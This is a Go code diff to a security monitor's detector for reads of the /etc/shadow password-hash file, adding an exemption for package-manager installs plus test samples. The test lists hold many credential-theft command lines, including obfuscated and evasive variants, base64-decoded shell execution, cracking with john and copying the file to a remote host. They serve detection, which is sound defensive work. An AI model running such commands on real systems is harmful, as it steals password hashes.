@@ -1,6 +1,8 @@
 package detect
 
 import (
+	"strings"
+
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
@@ -17,7 +19,7 @@ var credShadow = Detector{
 		if !readEvent(ev) || !paths.Any(v.PathClasses(ev.Path), paths.Shadow) || inWorkspace(v, ev.Path) {
 			return nil
 		}
-		if p := v.Proc(); p.Class == program.Account || p.Class == program.Package || oneOf(p.Name, "sshd", "cron", "systemd") {
+		if p := v.Proc(); p.Class == program.Account || p.Class == program.Package || oneOf(p.Name, "sshd", "cron", "systemd") || installing(p, v) {
 			return nil
 		}
 		return one(Finding{Level: coi.High, Title: "password hashes read by " + v.Proc().Name, Path: ev.Path, Op: "open", PID: ev.PID})
@@ -25,9 +27,46 @@ var credShadow = Detector{
 	Fire: append(lines(coi.High, "cat /etc/shadow", "sudo cat /etc/shadow", "cp /etc/shadow /tmp/s", "sudo tar czf x.tgz /etc/shadow", "base64 < /etc/shadow", "unshadow /etc/passwd /etc/shadow > h", "dd if=/etc/shadow", "head -1 /etc/gshadow",
 		"awk -F: '{print $2}' /etc/shadow", "python3 -c \"print(open('/etc/shadow').read())\"", "cd /etc && sudo less shadow", "cat /etc/sha*w", "vi /etc/shadow", "while read l; do echo $l; done < /etc/shadow", "/tmp/zz /etc/shadow", "c'a't /e\"tc\"/shadow",
 		"X=/etc/shadow; cat $X", "xxd /etc/shadow", "sudo rsync /etc/shadow h:/x", "curl file:///etc/shadow", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "perl -ne print /etc/shadow", "getent shadow", "john /etc/shadow", "docker exec c cat /etc/shadow", "grep root /etc/shadow", "busybox cat /etc/shadow", "/lib64/ld-linux-x86-64.so.2 /bin/cat /etc/shadow", "/proc/self/root/bin/cat /etc/shadow", "cp /bin/cat /tmp/k; /tmp/k /etc/shadow", "printf '#!/bin/sh\\ncat /etc/shadow\\n' > /tmp/a.sh; sh /tmp/a.sh"),
-		events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/cat", Path: "/etc/shadow"})...),
+		append(events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/cat", Path: "/etc/shadow"}), Sample{Level: coi.High, Events: installSample("apt-get", "/usr/bin/perl", "perl", "/tmp/x.pl")},
+			Sample{Level: coi.High, Events: installSample("apt-get", "/usr/bin/xxd", "xxd", "x")}, Sample{Level: coi.High, Events: installSample("bash", "/usr/bin/perl", "perl", "/usr/share/x.pl")})...),
 	Quiet: append(lines("", "ls -l /etc/shadow", "sudo passwd x", "useradd x", "grep -r shadow src/", "stat /etc/shadow", "echo /etc/shadow", "git grep /etc/shadow", "cat ./etc/shadow.go", "rg 'cat /etc/shadow' ."),
-		events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/sudo", Path: "/etc/shadow"})...),
+		append(events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/sudo", Path: "/etc/shadow"}),
+			Sample{Level: coi.Warning, Events: installSample("apt-get", "/usr/bin/perl", "/usr/bin/perl", "-w", "/usr/sbin/dpkg-preconfigure", "--apt")},
+			Sample{Level: coi.Warning, Events: installSample("dpkg", "/usr/bin/cmp", "cmp", "-s", "a", "b")},
+			Sample{Level: coi.Warning, Events: installSample("bash", "/usr/bin/perl", "/usr/bin/perl", "/usr/sbin/adduser", "x")})...),
+}
+
+// installSample is a program that a package manager started, and that opens the
+// shadow file without naming it.
+func installSample(manager, exe string, argv ...string) []event.Event {
+	return []event.Event{
+		{Type: event.Exec, PID: 40, PPID: 1, Exe: "/usr/bin/" + manager, Argv: []string{manager, "install", "x"}},
+		{Type: event.Exec, PID: 41, PPID: 40, Exe: exe, Argv: argv},
+		{Type: event.Open, PID: 41, PPID: 40, Exe: exe, Argv: argv, Path: "/etc/shadow"},
+	}
+}
+
+// installing reports the system's own work on its accounts: what dpkg and its
+// like start for a package, and scripts of the system that a package manager
+// starts, or that are account programs themselves. What a hook on the command
+// line of a package manager starts is neither.
+func installing(p track.Process, v track.View) bool {
+	if !hasPrefixAny(p.Exe, "/usr/", "/bin/", "/sbin/") {
+		return false
+	}
+	for _, n := range v.Names() {
+		if oneOf(n, "dpkg", "rpm", "apk", "pacman") {
+			return true
+		}
+	}
+	for _, a := range p.Argv[min(1, len(p.Argv)):] {
+		if strings.HasPrefix(a, "-") {
+			continue
+		}
+		return p.Class == program.Interpreter && hasPrefixAny(a, "/usr/sbin/", "/usr/bin/", "/usr/share/", "/usr/lib/") && !strings.Contains(a, "..") &&
+			(v.Under(program.Package) || program.ClassOf(a) == program.Account)
+	}
+	return false
 }
 
 func shadow(s *command.Simple, v track.View) *Finding {
